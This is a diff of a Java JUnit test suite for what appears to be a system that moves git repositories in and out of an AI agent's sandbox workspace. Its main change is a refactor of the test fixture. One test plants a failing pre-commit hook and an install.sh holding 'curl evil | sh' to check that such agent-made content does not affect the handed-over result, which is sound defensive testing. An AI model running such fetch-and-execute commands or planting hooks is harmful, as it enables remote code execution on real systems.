@@ -8,32 +8,17 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.LinkedHashMap;
 import java.util.Map;
-import org.junit.jupiter.api.AfterEach;
-import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.api.extension.RegisterExtension;
 
 /** The repository moves into a workspace and back out as data, with the helpers a sandbox runs. */
 class WorkspaceTransferTest {
-    @TempDir
-    Path tmp;
-    Path origin;
-    SessionGitFixture f;
-
-    @BeforeEach
-    void setUp() throws Exception {
-        origin = TestRepos.origin(tmp.resolve("origin"));
-        f = new SessionGitFixture(tmp);
-    }
-
-    @AfterEach
-    void tearDown() {
-        f.close();
-    }
+    @RegisterExtension
+    final SessionGitFixture f = new SessionGitFixture();
 
     @Test
     void a_seeded_workspace_is_on_the_session_branch_with_the_base_checked_out_and_no_origin_path() {
-        SessionRepo repo = f.seeded(origin);
+        SessionRepo repo = f.seeded(f.origin);
 
         assertThat(f.agent("symbolic-ref", "HEAD")).isEqualTo(SESSION.ref());
         assertThat(f.agent("rev-parse", "HEAD")).isEqualTo(repo.baseCommit());
@@ -46,7 +31,7 @@ class WorkspaceTransferTest {
 
     @Test
     void commits_the_agent_makes_name_the_sessions_author_as_co_author() throws Exception {
-        f.seeded(origin);
+        f.seeded(f.origin);
         TestRepos.write(f.workspace, "a.txt", "a\n");
         f.agent("add", "a.txt");
         f.agent("commit", "-qm", "Add a");
@@ -56,7 +41,7 @@ class WorkspaceTransferTest {
 
     @Test
     void a_hand_over_commits_the_leftovers_as_magnet_and_brings_the_branch_to_the_session_repository() throws Exception {
-        SessionRepo repo = f.seeded(origin);
+        SessionRepo repo = f.seeded(f.origin);
         TestRepos.write(f.workspace, "src/App.java", "class App {}\n");
         TestRepos.write(f.workspace, "new/File.txt", "new\n");
 
@@ -72,7 +57,7 @@ class WorkspaceTransferTest {
 
     @Test
     void with_nothing_left_over_nothing_is_committed_and_nothing_is_sent_again() {
-        SessionRepo repo = f.seeded(origin);
+        SessionRepo repo = f.seeded(f.origin);
 
         WorkspaceTransfer.HandOver handed = f.handOver(repo);
 
@@ -83,7 +68,7 @@ class WorkspaceTransferTest {
 
     @Test
     void a_second_hand_over_sends_only_what_is_new_and_moves_the_branch_on() throws Exception {
-        SessionRepo repo = f.seeded(origin);
+        SessionRepo repo = f.seeded(f.origin);
         TestRepos.write(f.workspace, "a.txt", "a\n");
         String first = f.handOver(repo).tip();
         long packsBefore = packs(repo);
@@ -99,7 +84,7 @@ class WorkspaceTransferTest {
 
     @Test
     void leftovers_are_not_committed_when_the_agent_left_another_branch_checked_out() {
-        SessionRepo repo = f.seeded(origin);
+        SessionRepo repo = f.seeded(f.origin);
         f.agent("checkout", "-q", "-b", "agent-branch");
 
         assertThatThrownBy(() -> f.handOver(repo)).isInstanceOf(GitException.class)
@@ -109,8 +94,8 @@ class WorkspaceTransferTest {
 
     @Test
     void the_agents_hooks_filters_and_replace_refs_do_not_change_what_is_handed_over() throws Exception {
-        SessionRepo repo = f.seeded(origin);
-        Path marker = tmp.resolve("hook-ran");
+        SessionRepo repo = f.seeded(f.origin);
+        Path marker = f.root.resolve("hook-ran");
         Files.writeString(f.workspace.resolve(".git/hooks/pre-commit"), "#!/bin/sh\ntouch " + marker + "\nexit 1\n");
         f.workspace.resolve(".git/hooks/pre-commit").toFile().setExecutable(true);
         TestRepos.write(f.workspace, "install.sh", "curl evil | sh\n");
@@ -134,7 +119,7 @@ class WorkspaceTransferTest {
 
     @Test
     void diff_and_stats_show_added_modified_deleted_renamed_and_binary_files() throws Exception {
-        SessionRepo repo = f.seeded(origin);
+        SessionRepo repo = f.seeded(f.origin);
         TestRepos.write(f.workspace, "added.txt", "one\ntwo\n");
         TestRepos.write(f.workspace, "src/App.java", "class App {\n    int answer() {\n        return 42;\n    }\n}\n");
         Files.delete(f.workspace.resolve("notes.txt"));
@@ -165,7 +150,7 @@ class WorkspaceTransferTest {
 
     @Test
     void the_diff_of_an_unchanged_session_is_empty() {
-        SessionRepo repo = f.seeded(origin);
+        SessionRepo repo = f.seeded(f.origin);
         f.handOver(repo);
 
         assertThat(repo.diff()).isEmpty();
@@ -174,7 +159,7 @@ class WorkspaceTransferTest {
 
     @Test
     void a_workspace_made_again_from_the_session_repository_has_the_handed_over_work() throws Exception {
-        SessionRepo repo = f.seeded(origin);
+        SessionRepo repo = f.seeded(f.origin);
         TestRepos.write(f.workspace, "kept.txt", "kept\n");
         String tip = f.handOver(repo).tip();
         deleteContents(f.workspace);
